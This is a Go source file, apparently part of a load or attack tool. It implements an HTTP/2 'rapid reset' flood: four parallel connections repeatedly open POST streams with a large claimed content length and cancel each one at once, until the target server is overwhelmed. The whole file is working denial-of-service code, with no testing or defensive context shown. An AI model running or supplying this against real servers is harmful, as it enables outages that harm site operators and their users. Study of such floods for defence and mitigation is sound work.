package flood

import (
	"bytes"
	"context"
	"io"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// resetters is how many connections there are at once.
const resetters = 4

// Resets posts to path over HTTP/2 and takes each request back at once, as fast as the server
// reads.
func Resets(path string) func(context.Context, Target) int64 {
	return func(ctx context.Context, t Target) int64 {
		var requests atomic.Int64
		again(ctx, resetters, 10*time.Millisecond, func(ctx context.Context) { requests.Add(t.reset(ctx, path)) })
		return requests.Load()
	}
}

// reset does so on one connection until the server has had enough, and returns how many requests it
// made.
func (t Target) reset(ctx context.Context, path string) (requests int64) {
	connection, err := t.connect(ctx, "h2")
	if err != nil {
		return 0
	}
	defer connection.Close()
	defer context.AfterFunc(ctx, func() { _ = connection.Close() })()
	go func() { _, _ = io.Copy(io.Discard, connection) }() // ends with the connection
	header, err := postHeader(t.Address, path)
	if err != nil {
		return 0
	}
	framer := http2.NewFramer(connection, nil)
	if _, err := io.WriteString(connection, http2.ClientPreface); err != nil || framer.WriteSettings() != nil {
		return 0
	}
	for stream := uint32(1); stream < 1<<31; stream += 2 {
		if framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: header, EndHeaders: true}) != nil {
			return requests
		}
		requests++
		if framer.WriteRSTStream(stream, http2.ErrCodeCancel) != nil {
			return requests
		}
	}
	return requests
}

// postHeader is a request's header as HTTP/2 writes it.
func postHeader(host, path string) ([]byte, error) {
	var header bytes.Buffer
	encoder := hpack.NewEncoder(&header)
	for _, field := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":authority", host}, {":path", path}, {"content-length", "1000000"}} {
		if err := encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}); err != nil {
			return nil, err
		}
	}
	return header.Bytes(), nil
}
